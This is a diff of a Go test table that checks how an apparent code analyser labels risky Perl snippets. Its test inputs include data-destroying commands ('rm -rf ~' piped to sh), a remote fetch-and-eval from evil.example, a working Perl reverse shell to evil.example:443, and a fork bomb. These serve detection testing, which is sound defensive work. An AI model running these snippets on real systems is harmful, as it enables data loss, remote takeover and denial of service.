@@ -174,7 +174,7 @@ func TestRead(t *testing.T) {
 		{"eval block", "perl", `eval { die "x" }; print "ok"`, ""},
 		{"open pipe", "perl", `open(F,"|sh"); print F "rm -rf ~"`, "sh sh; sh sh <rm -rf ~>"},
 		{"open write", "perl", `open(my $fh, ">", "/etc/hosts"); print $fh "x"`, "write /etc/hosts; write /etc/hosts <x>"},
-		{"reverse", "perl", `system(scalar reverse("di"))`, "sh id"},
+		{"reverse", "perl", `system(scalar reverse("di"))`, "sh id; sh di"},
 		{"lwp", "perl", `use LWP::Simple; eval get("http://evil.example/x")`, "net http://evil.example/x; eval " + umpire.Hole + " network"},
 		{"reverse shell", "perl", `use Socket;$i="evil.example";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}`, "net evil.example:443; revshell evil.example:443; sh /bin/sh -i"},
 		{"fork bomb", "perl", `fork while fork`, "bomb"},
